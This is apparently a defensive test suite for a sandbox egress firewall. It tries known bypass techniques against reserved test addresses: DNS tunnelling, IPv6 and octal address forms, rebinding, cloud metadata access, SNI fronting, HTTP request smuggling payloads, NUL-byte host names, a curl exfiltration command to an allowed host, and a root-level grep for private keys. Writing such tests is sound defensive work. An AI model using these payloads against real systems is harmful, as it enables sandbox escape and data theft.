/**
 * The classes of bypass that are known, each tried from inside. What arrived is counted in the test
 * internet, at addresses that nobody else uses; the list with the results is printed at the end.
 */

import { createServer, type Server } from "node:net";
import { ALL_TRAFFIC, type Sandbox } from "e2b";
import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
import { openInternet } from "../support/internet/internet.ts";
import { ADDRESS, HOST_END, PORT, SOCKS_PORT } from "../support/internet/plan.ts";
import { api, openPlatform } from "../support/platform/platform.ts";
import { settingOf } from "../support/platform/programs.ts";
import { ask, NOTHING, putNetwork, python, reach, reached, sandboxWith } from "../support/sandbox/egress.ts";
import { send } from "../support/sandbox/sandbox-host.ts";
import { ownSandbox } from "../support/sandbox/sdk.ts";

const platform = openPlatform();
const internet = openInternet();
const { eight, one, otherDns } = ADDRESS;
const GOOGLE = { allowOut: ["google.example"], denyOut: NOTHING };
const results: { class: string; tried: string; result: string }[] = [];

afterEach(({ task }) => {
  const [name = "", tried = ""] = task.name.split(": ");
  const good = task.name.includes("(seen, not stopped)") ? "seen in the log" : "stopped";
  results.push({ class: name, tried, result: task.result?.state === "fail" ? "NOT STOPPED" : good });
});
afterAll(() => {
  const width = Math.max(...results.map((one) => one.class.length));
  console.log(results.map((one) => `${one.class.padEnd(width)}  ${one.result.padEnd(15)}  ${one.tried}`).join("\n"));
});

/** Packets to an address that no other test uses. */
const arrived = (address: string, match: object = {}) => internet.packets("border", { address, ...match });

test("1 DNS tunnelling: TXT and wildcard names, another resolver by UDP, TCP, TLS and HTTPS", async () => {
  const watch = await internet.watch();
  const before = await arrived(otherDns);
  for (const sandbox of [await sandboxWith(GOOGLE), await sandboxWith()]) {
    const open = (await sandbox.getInfo()).network?.allowOut === undefined;
    const dig = (args: string) =>
      sandbox.commands.run(`dig +short +time=1 +tries=1 ${args} 2>&1 | grep -v '^;' || true`, { timeoutMs: 30_000 });
    // Where everything may be reached, names may be asked for; where little may, they would be a way out. What only
    // carries data is asked for nowhere.
    expect((await dig("TXT secret.tunnel.test")).stdout).toBe("");
    if (!open) expect((await dig("secret.tunnel.test")).stdout).toBe("");
    for (const args of [`@${otherDns} google.example`, `+tcp @${otherDns} google.example`]) {
      expect((await dig(args)).stdout).toBe("");
    }
    expect(await reached(sandbox, `https://${otherDns}:853/`)).not.toEqual(["ok"]);
    if (!open) expect(await reach(sandbox, otherDns)).toEqual({ [otherDns]: "blocked" });
  }
  expect((await watch.all("question")).filter(({ name }) => name.includes("tunnel"))).toEqual([]);
  expect(await arrived(otherDns)).toBe(before);
});

test("2 IPv6: mapped, 6to4, NAT64, Teredo and native forms of a denied address", async () => {
  const sandbox = await sandboxWith({ denyOut: [one] });
  const before = await arrived(one);
  const forms = [
    "::ffff:203.0.113.1",
    "2002:cb00:7101::1",
    "64:ff9b::203.0.113.1",
    "2001:0:cb00:7101::1",
    "2001:db8::20",
  ];
  const { stdout } = await sandbox.commands.run(
    `grep -vc " lo$" /proc/net/if_inet6; ${forms.map((form) => `curl -sk -m 2 -o /dev/null 'http://[${form}]/' && echo reached`).join(";")}; true`,
  );
  expect(stdout).toBe("0\n");
  expect(await arrived(one)).toBe(before);
});

test("3 DNS rebinding: a zone that alternates public, link-local and private", async () => {
  const private_ = await arrived("10.255.255.1");
  const linkLocal = await arrived("169.254.200.1");
  const names = ["rebind.test", "metadata.test", "private.test", "mixed.test", "inside.test"];
  const sandbox = await sandboxWith({ allowOut: names, denyOut: NOTHING });
  const { stdout } = await sandbox.commands.run(
    `for i in 1 2 3 4; do for n in ${names.join(" ")}; do for s in http https; do curl -sk -m 3 $s://$n/; done; done; done; true`,
    { timeoutMs: 90_000 },
  );
  const answered = [...stdout.matchAll(/"address":"([^"]+)"/g)].map((match) => match[1]);
  expect(new Set(answered)).toEqual(new Set(["198.51.100.66"]));
  expect([await arrived("10.255.255.1"), await arrived("169.254.200.1")]).toEqual([private_, linkLocal]);
});

test("4 metadata and link-local: every cloud's address, all traffic allowed", async () => {
  const addresses = ["169.254.169.254", "168.63.129.16", "100.100.100.200", "169.254.200.1", "192.0.0.192"];
  for (const network of [{ allowOut: [ALL_TRAFFIC, ...addresses] }, { ...GOOGLE, allowOut: ["*", ...addresses] }]) {
    const sandbox = await sandboxWith({ ...network, denyOut: NOTHING });
    const urls = [...addresses, "[fd00:ec2::254]", "metadata.google.internal"].map((host) => `http://${host}/`);
    expect(await reached(sandbox, ...urls)).not.toContain("ok");
  }
  for (const address of addresses) expect(await internet.packets("passed", { address })).toBe(0);
});

test("5 the host's own addresses: gateway, public address, by number and by an allowed name", async () => {
  const heard: string[] = [];
  const servers: Server[] = [];
  for (const port of [80, 443, 8080]) {
    const server = createServer((socket) => {
      heard.push(`${port}`);
      socket.destroy();
    });
    await new Promise<void>((resolve, reject) => {
      server.on("error", reject).listen(port, HOST_END, resolve);
    });
    servers.push(server);
  }
  try {
    for (const network of [undefined, { allowOut: ["node.test", `${HOST_END}/32`], denyOut: NOTHING }]) {
      const sandbox = await sandboxWith(network);
      const gateway = (await sandbox.commands.run("ip route show default | awk '{print $3}'")).stdout.trim();
      const ports = ["AGENT", "PROXY"].map((name) => settingOf(platform, "agent", `SVC_${name}_PORT`));
      const urls = [gateway, HOST_END, "node.test"].flatMap((host) => [
        `http://${host}/`,
        `https://${host}/`,
        `http://${host}:8080/`,
        ...ports.map((port) => `http://${host}:${port}/healthz`),
        `http://${host}:${new URL(platform.apiUrl).port}/healthz`,
      ]);
      const outcomes = await reached(sandbox, ...urls);
      expect(urls.filter((_, index) => outcomes[index] === "ok")).toEqual([]);
    }
    expect(heard).toEqual([]);
  } finally {
    for (const server of servers) server.close();
  }
});

test("6 odd spellings: octal, hexadecimal, one number, trailing dot, upper case", async () => {
  const sandbox = await sandboxWith({ denyOut: [one] });
  const before = await arrived(one);
  const urls = ["3405803777", "0xcb007101", "0313.0.0161.01", "0xcb.0x0.0x71.0x1", "203.0.28929"].map(
    (a) => `http://${a}/`,
  );
  expect(await reached(sandbox, ...urls)).not.toContain("ok");
  expect(await arrived(one)).toBe(before);
  const named = await sandboxWith({ allowOut: ["echo.example"], denyOut: NOTHING });
  const host = (value: string) =>
    named.commands.run(`curl -s -m 3 -o /dev/null -H 'Host: ${value}' http://echo.example/ && echo ok || echo blocked`);
  for (const value of ["3405803777", "203.0.113.1", "plain.example.", "PLAIN.EXAMPLE", "echo.example@plain.example"]) {
    expect([value, (await host(value)).stdout]).toEqual([value, "blocked\n"]);
  }
  expect((await host("ECHO.example.")).stdout).toBe("ok\n");
  for (const denied of ["0177.0.0.1", "2130706433", "127.1", "0x7f.1", "10.0.0.0/33", "1.2.3.4 "]) {
    expect([denied, (await putNetwork(platform, named.sandboxId, { denyOut: [denied] })).status]).toEqual([
      denied,
      400,
    ]);
  }
});

test("7 raw sockets and ICMP: ping, raw, packet sockets, also as root", async () => {
  const sandbox = await sandboxWith();
  const before = await arrived("203.0.113.107");
  const program = `import socket
for args in ((2, 3, 1), (2, 3, 255), (2, 2, 1), (17, 3, 0x300), (17, 2, 0x300)):
  try:
    s = socket.socket(*args); s.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0", ("203.0.113.107", 0)) if args[0] == 2 else None
    print("open", args)
  except OSError: pass
print("done")`;
  for (const user of ["user", "root"]) {
    expect(await python(sandbox, program, user)).toBe("done");
    const ping = "ping -c1 -W1 203.0.113.107 >/dev/null 2>&1 && echo pong || echo silence";
    expect((await sandbox.commands.run(ping, { user })).stdout).toBe("silence\n");
  }
  expect(await arrived("203.0.113.107")).toBe(before);
});

test("8 UDP, QUIC, SCTP, DCCP, UDP-Lite: not with names allowed, not to what is denied", async () => {
  const program = `import socket
for proto in (17, 132, 33, 136):
  for port in (443, 7, 53, 853, 5300):
    try:
      kind = {17: 2, 136: 2, 132: 1, 33: 6}[proto]
      s = socket.socket(2, kind, proto); s.settimeout(0.3); s.connect(("203.0.113.108", port)); s.send(b"x")
    except OSError: pass
print("done")`;
  for (const network of [GOOGLE, { allowOut: ["*"], denyOut: NOTHING }, { denyOut: ["203.0.113.108"] }]) {
    expect(await python(await sandboxWith(network), program)).toBe("done");
  }
  expect(await arrived("203.0.113.108")).toBe(0);
  const open = await sandboxWith();
  await python(open, program.replaceAll("203.0.113.108", "203.0.113.109"));
  const others = await Promise.all([132, 33, 136].map((p) => arrived("203.0.113.109", { protocol: String(p) })));
  expect(others).toEqual([0, 0, 0]);
  expect(await arrived("203.0.113.109", { port: 853 })).toBe(0);
  expect(await arrived("203.0.113.109", { port: 7, protocol: "udp" })).toBeGreaterThan(0);
});

test("9 SNI spoofing and fronting: another address behind an allowed name, another Host, encrypted hello", async () => {
  const before = await arrived("203.0.113.110");
  const rules = { "front.example": [{ transform: { headers: { "x-rule": "front" } } }] };
  const sandbox = await sandboxWith({ allowOut: ["front.example", "google.example"], denyOut: NOTHING, rules });
  const there = "--connect-to ::203.0.113.110: -k";
  expect(await ask(sandbox, "https://google.example/", there)).toMatchObject({ address: ADDRESS.google });
  const watch = await internet.watch();
  const status = "curl -sk -m 5 -o /dev/null -w '%{http_code}' -H 'Host: hidden.example'";
  for (const url of ["http://front.example/", "https://front.example/"]) {
    expect((await sandbox.commands.run(`${status} ${url} || true`)).stdout).not.toBe("200");
  }
  expect((await watch.all("request")).filter(({ host }) => host === "hidden.example")).toEqual([]);
  expect(await arrived("203.0.113.110")).toBe(before);
  const { stdout } = await sandbox.commands.run("dig TYPE65 google.example +short | tr -d ' ' ; true");
  expect(stdout.toLowerCase()).not.toContain(Buffer.from("not a real configuration").toString("hex"));
});

test("10 no name, or none that counts: TLS without SNI, on another port, a server that speaks first", async () => {
  const sandbox = await sandboxWith(GOOGLE);
  const before = await arrived(ADDRESS.google, { port: PORT.tls });
  const tls = (args: string) =>
    sandbox.commands.run(
      `timeout 5 openssl s_client -connect ${args} </dev/null 2>/dev/null | grep -c 'BEGIN CERT' || true`,
    );
  expect((await tls(`${ADDRESS.google}:443 -servername google.example`)).stdout).toBe("1\n");
  expect((await tls(`${ADDRESS.google}:443 -noservername`)).stdout).toBe("0\n");
  expect((await tls(`${ADDRESS.google}:${PORT.tls} -servername google.example`)).stdout).toBe("0\n");
  expect((await tls(`${ADDRESS.google}:443 -servername ${one}`)).stdout).toBe("0\n");
  const ssh = `import socket
try:
  s = socket.create_connection(("google.example", 22), 3); s.settimeout(3); print(s.recv(10))
except OSError: print("no")`;
  expect(["no", "b''"]).toContain(await python(sandbox, ssh));
  expect(await arrived(ADDRESS.google, { port: PORT.tls })).toBe(before);
  expect(await arrived(ADDRESS.google, { port: 22 })).toBe(0);
});

test("11 hellos in pieces, huge, garbage, or never: a budget of bytes and time, undecided is denied", async () => {
  const sandbox = await sandboxWith(GOOGLE);
  const program = (name: string) => `import socket, ssl, time
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
def hello(name):
  i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
  t = c.wrap_bio(i, o, server_hostname=name)
  try: t.do_handshake()
  except ssl.SSLWantReadError: pass
  return o.read()
def outcome(data, pieces, gap):
  s = socket.create_connection(("203.0.113.111", 443), 3); s.settimeout(20); s.setsockopt(6, 1, 1)
  try:
    for k in range(0, len(data), pieces): s.sendall(data[k:k + pieces]); time.sleep(gap)
    return "answered" if s.recv(10)[:1] == b"\\x16" else "closed"
  except OSError as e: return "closed" if not isinstance(e, TimeoutError) else "hangs"
h = hello("${name}")
print(outcome(h, 1, 0), outcome(h[:5] + b"\\xff" * 70000, 4096, 0), outcome(b"\\0" * 100, 100, 0), outcome(h[:40], 40, 0))`;
  expect(await python(sandbox, program("google.example"))).toBe("answered closed closed closed");
  expect(await python(sandbox, program("plain.example"))).toBe("closed closed closed closed");
  expect(await arrived("203.0.113.111")).toBe(0);
});

test("12 HTTP tricks: absolute form, two Hosts, CONNECT, smuggling, a second request for another host", async () => {
  const rules = { "api.example": [{ transform: { headers: { authorization: "of-a-secret" } } }] };
  const sandbox = await sandboxWith({ allowOut: ["echo.example", "api.example"], denyOut: NOTHING, rules });
  const before = await arrived(ADDRESS.plain);
  const watch = await internet.watch();
  const attempts = (host: string) => [
    `GET http://plain.example/ HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n`,
    `GET / HTTP/1.1\\r\\nHost: ${host}\\r\\nHost: plain.example\\r\\n\\r\\n`,
    `GET / HTTP/1.1\\r\\nHost: plain.example\\r\\nHost: ${host}\\r\\n\\r\\n`,
    `GET / HTTP/1.1\\r\\nHost : ${host}\\r\\nHost: plain.example\\r\\n\\r\\n`,
    `GET / HTTP/1.1\\r\\n Host: ${host}\\r\\nHost: plain.example\\r\\n\\r\\n`,
    "CONNECT plain.example:443 HTTP/1.1\\r\\nHost: plain.example:443\\r\\n\\r\\n",
    `CONNECT plain.example:443 HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n`,
    `POST / HTTP/1.1\\r\\nHost: ${host}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /x HTTP/1.1\\r\\nHost: plain.example\\r\\n\\r\\n`,
    `POST / HTTP/1.1\\r\\nHost: ${host}\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /x HTTP/1.1\\r\\nHost: plain.example\\r\\n\\r\\n`,
    `GET / HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\nGET /second HTTP/1.1\\r\\nHost: plain.example\\r\\n\\r\\n`,
  ];
  const program = `import socket
for text in (${[...attempts("echo.example"), ...attempts("api.example")].map((text) => `b"${text}"`).join(", ")}):
  for at in ("echo.example", "198.51.100.31"):
    try:
      s = socket.create_connection((at, 80), 3); s.settimeout(0.5); s.sendall(text)
      while s.recv(65536): pass
    except OSError: pass
print("done")`;
  expect(await python(sandbox, program)).toBe("done");
  expect(await arrived(ADDRESS.plain)).toBe(before);
  // Where headers are added, nothing is passed on that could be read in two ways.
  const withSecret = (await watch.all("request")).filter(({ headers }) => headers["authorization"] !== undefined);
  expect(withSecret.filter(({ host, address }) => host !== "api.example" || address !== "198.51.100.70")).toEqual([]);
  expect(withSecret.filter(({ url, method }) => url !== "/" || method !== "GET")).toEqual([]);
});

test("13 redirects: from an allowed host to a denied one", async () => {
  const sandbox = await sandboxWith({ allowOut: ["echo.example"], denyOut: NOTHING });
  const { stdout } = await sandbox.commands.run(
    "curl -skL -m 5 -o /dev/null 'https://echo.example/redirect?to=https://plain.example/' && echo followed || echo stopped",
  );
  expect(stdout).toBe("stopped\n");
});

test("14 names for SOCKS: NUL, suffix tricks, over-long names and labels never reach the proxy", async () => {
  const egressProxy = { address: `${ADDRESS.socks}:${SOCKS_PORT}` };
  const sandbox = await sandboxWith({ allowOut: ["*.google.example"], denyOut: NOTHING, egressProxy });
  const watch = await internet.watch();
  const names = [
    "evil.test\\x00.google.example",
    "evil.test%00.google.example",
    "badgoogle.example",
    "evil.test/.google.example",
    "evil.test\\\\.google.example",
    `${"a".repeat(64)}.google.example`,
    `${"a.".repeat(130)}google.example`,
    "[::1].google.example",
    "-.google.example..",
  ];
  const program = `import socket
for host in (${names.map((name) => `b"${name}"`).join(", ")}, b"www.google.example"):
  try:
    s = socket.create_connection(("198.51.100.114", 80), 3); s.settimeout(3)
    s.sendall(b"GET / HTTP/1.1\\r\\nHost: " + host + b"\\r\\nConnection: close\\r\\n\\r\\n"); s.recv(10)
  except OSError: pass
print("done")`;
  expect(await python(sandbox, program)).toBe("done");
  expect((await watch.all("socks")).map(({ host }) => host)).toEqual(["www.google.example"]);
  expect(await arrived("198.51.100.114")).toBe(0);
});

test("15 wildcards: neither the apex nor a name that only ends alike", async () => {
  const sandbox = await sandboxWith({ allowOut: ["*.google.example"], denyOut: NOTHING });
  expect(await reach(sandbox, "google.example", "badgoogle.example", "www.google.example")).toEqual({
    "google.example": "blocked",
    "badgoogle.example": "blocked",
    "www.google.example": "ok",
  });
  for (const bad of ["*google.example", "www.*.example", "*.*.example", "*.", "**"]) {
    const reply = await putNetwork(platform, sandbox.sandboxId, { allowOut: [bad], denyOut: NOTHING });
    expect([bad, reply.status]).toEqual([bad, 400]);
  }
});

test("16 races: the first packets of sandboxes that were just claimed (all of it: chaos/egress)", async () => {
  const flood = `python3 -c "
import socket
for i in range(300):
  socket.socket(2, 2).sendto(b'x', ('203.0.113.116', 7))"`;
  await Promise.all(
    Array.from({ length: 6 }, async (_, index) => {
      const network = index % 2 === 0 ? { denyOut: ["203.0.113.116"] } : GOOGLE;
      await (await sandboxWith(network)).commands.run(`${flood} 2>/dev/null; true`);
    }),
  );
  expect(await arrived("203.0.113.116")).toBe(0);
});

test("17 inbound reflection: another sandbox by the platform's edge, internal routes through it", async () => {
  const [first, second] = [await sandboxWith(), await ownSandbox()];
  const gateway = (await first.commands.run("ip route show default | awk '{print $3}'")).stdout.trim();
  const edge = new URL(platform.sandboxUrl).port;
  for (const host of [gateway, HOST_END, "127.0.0.1"]) {
    const { stdout } = await first.commands.run(
      `curl -s -m 2 -H 'E2b-Sandbox-Id: ${second.sandboxId}' -H 'E2b-Sandbox-Port: 49983' http://${host}:${edge}/health -o /dev/null -w '%{http_code}' || true`,
    );
    expect([host, stdout]).toEqual([host, "000"]);
  }
  for (const path of ["/init", "/INIT", "//init", "/init/"]) {
    const reply = await send(platform, second.sandboxId, path, { method: "POST", body: "{}" });
    expect([path, reply.status]).toEqual([path, 404]);
  }
});

test("18 exfiltration through allowed places (seen, not stopped): what was sent is in the log", async () => {
  const sandbox = await sandboxWith({ allowOut: ["echo.example"], denyOut: NOTHING });
  await sandbox.commands.run("head -c 300000 /dev/zero | curl -sk --data-binary @- https://echo.example/ -o /dev/null");
  const sent = async () => {
    const { json } = await api(platform, "GET", `/sandboxes/${sandbox.sandboxId}/network/log`);
    const { entries } = json as { entries: { name?: string; sentBytes: number }[] };
    return Math.max(0, ...entries.filter(({ name }) => name === "echo.example").map(({ sentBytes }) => sentBytes));
  };
  await expect.poll(sent).toBeGreaterThan(300_000);
});

test("19 the authority: its key is nowhere inside, and hosts without a rule are not shown its leaves", async () => {
  const sandbox = await sandboxWith({ rules: { "api.example": [{ transform: { headers: { "x-rule": "a" } } }] } });
  const { stdout } = await sandbox.commands.run(
    "grep -rlsI 'PRIVATE KEY-----' /etc /run /usr/local /var/lib /home /root /tmp /opt 2>/dev/null | grep -v '/python3' || true",
    { user: "root", timeoutMs: 60_000 },
  );
  expect(stdout).toBe("");
  const plain = await sandbox.commands.run("curl -s https://google.example/ -o /dev/null || echo $?");
  expect(plain.stdout).toBe("60\n");
});

test("20 secret reflection: a header goes to its host on its ports only, so only that host can show it", async () => {
  const rules = { "api.example": [{ transform: { headers: { authorization: "of-a-secret" } } }] };
  const sandbox = await sandboxWith({ rules });
  const watch = await internet.watch();
  await reached(
    sandbox,
    `http://api.example:${PORT.http}/`,
    `https://api.example:${PORT.tls}/`,
    "http://198.51.100.70/",
  );
  await reach(sandbox, "one.api.example", "echo.example", eight);
  // An address that only claims the name.
  await sandbox.commands.run("curl -sk -m 3 --connect-to ::203.0.113.120: https://api.example/ -o /dev/null; true");
  const told = (await watch.all("request")).filter(({ headers }) => headers["authorization"] !== undefined);
  expect(told.map(({ address }) => address)).toEqual(["198.51.100.70"]);
  expect(await arrived("203.0.113.120")).toBe(0);
});

test("21 the engine's ways to the host: host.docker.internal, 127.0.0.11, the bridge", async () => {
  const sandbox = await ownSandbox();
  const names = [
    "host.docker.internal",
    "gateway.docker.internal",
    "docker.for.mac.localhost",
    "host.containers.internal",
  ];
  const urls = [...names, "127.0.0.11", "172.17.0.1"].flatMap((host) => [`http://${host}/`, `http://${host}:2375/`]);
  expect(await reached(sandbox, ...urls)).not.toContain("ok");
  const gateway = (await sandbox.commands.run("ip route show default | awk '{print $3}'")).stdout.trim();
  const { stdout } = await sandbox.commands.run("grep -E '^nameserver' /etc/resolv.conf");
  expect(stdout.trim()).toBe(`nameserver ${gateway}`);
});

test("22 multicast and broadcast: mDNS, LLMNR, SSDP, DHCP", async () => {
  const neighbour = await ownSandbox();
  const listen = `import socket, struct
s = socket.socket(2, 2); s.setsockopt(1, 2, 1); s.bind(("", 5353)); s.settimeout(4)
s.setsockopt(0, 35, struct.pack("4s4s", socket.inet_aton("224.0.0.251"), socket.inet_aton("0.0.0.0")))
open("/tmp/listening", "w").close()
try: print("heard", s.recv(10))
except TimeoutError: print("silence")`;
  const hearing = python(neighbour, listen);
  await neighbour.commands.run("until [ -e /tmp/listening ]; do sleep 0.05; done");
  const sandbox: Sandbox = await ownSandbox();
  const targets = [
    ["224.0.0.251", 5353],
    ["224.0.0.252", 5355],
    ["239.255.255.250", 1900],
    ["255.255.255.255", 67],
  ] as const;
  await python(
    sandbox,
    `import socket
s = socket.socket(2, 2); s.setsockopt(1, 6, 1)
for target in (${targets.map(([address, port]) => `("${address}", ${port})`).join(", ")}):
  try: s.sendto(b"x", target)
  except OSError: pass`,
  );
  expect(await hearing).toBe("silence");
  for (const [address] of targets) expect(await internet.packets("passed", { address })).toBe(0);
});

beforeAll(async () => {
  // The counters begin where this run begins: addresses of this file are used by nobody else.
  expect(await arrived("203.0.113.108")).toBe(0);
});
